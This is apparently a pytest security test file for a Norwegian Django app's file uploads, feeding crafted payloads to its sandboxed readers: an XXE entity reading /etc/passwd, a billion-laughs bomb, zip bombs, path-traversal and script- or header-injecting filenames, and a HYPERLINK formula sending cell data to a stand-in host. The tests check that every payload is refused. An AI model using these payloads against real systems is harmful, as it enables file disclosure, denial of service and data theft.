"""V5: uploaded files, with real bombs: what is read is read in a process of its own that has nothing to give away."""

import io
import os
import subprocess
import zipfile
from collections import Counter
from datetime import date

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from samtale.core import bounded
from samtale.guides.uploads import UnreadableFileError
from samtale.guides.uploads import read_apart as read_form
from samtale.people.importing.example import example_file
from samtale.people.importing.reading import read_apart
from samtale.people.importing.table import FileRefusedError
from samtale.people.models import ImportUpload
from samtale.rounds.models import Round
from samtale.rounds.progress.figures import Branch, HolderRow, Progress
from samtale.rounds.progress.spreadsheet import workbook_of

from .asvs import tries

pytestmark = pytest.mark.slow

SECRET, READER = "kantarellsuppe", "tests.attacks.taken_over"


def zipped(**members: bytes) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name.replace("__", "/").replace("_xml", ".xml"), content)
    return made.getvalue()


def workbook(*rows) -> bytes:
    book, made = Workbook(), io.BytesIO()
    for row in rows:
        book.active.append(row)
    book.save(made)
    return made.getvalue()


def with_part(file: bytes, name: str, content: bytes) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(file)) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for member in old.infolist():
            if member.filename != name:
                new.writestr(member, old.read(member))
        new.writestr(name, content)
    return made.getvalue()


PEOPLE = workbook(["Ansattnummer", "Fornavn"], ["1", "Kari"])
XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>'
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(12))
    + b"]><x>&m;</x>"
)
BOMBS = {
    "2 GB of nothing": lambda: zipped(**{"xl/worksheets/sheet1_xml": b"\0" * 200_000_000}),
    "ten thousand members": lambda: zipped(**{f"xl/{nth}": b"" for nth in range(10_000)}),
    "an entity that reads a file": lambda: with_part(PEOPLE, "xl/sharedStrings.xml", XXE),
    "a billion laughs": lambda: with_part(PEOPLE, "xl/worksheets/sheet1.xml", LAUGHS),
    "a member outside": lambda: zipped(**{"../../../../tmp/out": b"x", "[Content_Types]_xml": b"<x/>"}),
    "a zip in a zip": lambda: zipped(**{"xl/a.zip": zipped(**{"b.zip": b"\0" * 50_000_000})}),
    "not a zip": lambda: b"PK\x03\x04" + os.urandom(1000),
    "a program": lambda: b"\x7fELF" + b"\0" * 1000,
}


@tries(
    "V5.2.1",
    "V5.2.3",
    "V1.5.1",
    "V5.2.2",
    "V5.3.2",
    what="ekte bomber som Excel og Word: 200 MB nuller i 200 KB, ti tusen filer, ytre og nøstede enheter i XML, stier ut av arkivet, zip i zip, program",
)
@pytest.mark.parametrize("name", BOMBS)
def test_a_bomb_is_refused_with_a_sentence_before_it_goes_off(name):
    file = BOMBS[name]()
    for read, refusal in ((read_apart, FileRefusedError), (read_form, UnreadableFileError)):
        with pytest.raises(refusal) as said:
            read(file)
        assert "root:" not in str(said.value) and str(said.value)[0].isupper()
        assert not isinstance(said.value.__cause__, bounded.LimitExceededError), "it used up its time or its memory"


@tries(
    "V15.2.2",
    "V5.2.1",
    "V13.3.2",
    "V16.5.3",
    what="leseprosessen selv tatt over: finner ingen nøkler, får ikke skrive filer, stanses når den bruker for mye minne eller tid",
    gap="prosessen er ikke skilt fra nettet av seg selv; det gjør virksomheten med systemd (IPAddressDeny) eller brannmur",
)
def test_the_reading_process_has_nothing_and_ends_in_time(monkeypatch):
    monkeypatch.setenv("SAMTALE_SECRET_KEY", SECRET)
    assert bounded.read(f"{READER}:snoop", b"") == []
    with pytest.raises(bounded.LimitExceededError):
        bounded.read(f"{READER}:greedy", b"")
    monkeypatch.setattr(bounded, "SECONDS", 3)
    with pytest.raises(bounded.LimitExceededError) as ended:
        bounded.read(f"{READER}:endless", b"")
    assert isinstance(ended.value.__cause__, subprocess.TimeoutExpired)


@pytest.mark.django_db
@tries(
    "V5.2.1",
    "V5.3.1",
    "V5.4.1",
    what="for store filer, og filnavn med stier, skript og linjeskift, lastet opp på siden",
)
def test_a_name_is_only_a_name(cast):
    client = cast.client(cast.hr)
    big = SimpleUploadedFile("stor.csv", b"a;b\n" * 2_000_000)
    answer = client.post("/people/import/", {"file": big})
    assert answer.status_code == 422 and "5 MB" in answer.content.decode()
    for name in ("../../../../etc/passwd", "<script>alert(1)</script>.csv", "a\r\nSet-Cookie: x=y.csv", "x.php"):
        answer = client.post("/people/import/", {"file": SimpleUploadedFile(name, example_file())}, follow=True)
        assert answer.status_code == 200 and "<script>alert" not in answer.content.decode()
    assert ImportUpload.objects.count() == 4
    assert not any("/" in upload.filename for upload in ImportUpload.objects.all() if "script" not in upload.filename)


@pytest.mark.django_db
@tries(
    "V1.2.5",
    "V1.3.3",
    what="formler i regneark: verdien leses som den sto, og regnes aldri ut; i det vi gir ut, er et navn som ligner en formel, tekst",
)
def test_formulas_are_neither_run_nor_given(cast):
    evil = '=HYPERLINK("https://ond.example/?"&A1;"klikk")'
    table = read_apart(workbook(["Ansattnummer", "Fornavn"], ["1", evil], ["2", "=1+1"]))
    assert "2" not in [str(cell) for row in table.rows for cell in row.cells[1:]]
    given = cast.client(cast.hr).get("/people/import/example/").content.decode("utf-8-sig")
    cells = [cell.strip('"') for line in given.splitlines() for cell in line.split(";")]
    assert len(cells) > 40 and not [cell for cell in cells if cell[:1] in "=+-@\t\0" and cell]
    seen = Progress(
        counts=Counter(),
        branches=[Branch(1, evil, 0)],
        holders=[HolderRow(1, "+1")],
        held_by_day=[],
        blocked=[],
        put_off=[],
        lines=[],
        above=[],
    )
    like = Round(name=evil, unit=cast.unit, starts_on=date(2027, 1, 4), ends_on=date(2027, 2, 1))
    sheets = list(load_workbook(io.BytesIO(workbook_of(like, seen))))
    assert {cell.data_type for sheet in sheets for row in sheet.iter_rows() for cell in row} == {"s", "n"}
    assert [sheet["A1"].value for sheet in sheets] == [f"'{evil}"] * 2
    assert [sheet["A5"].value for sheet in sheets] == [f"'{evil}", "'+1"]
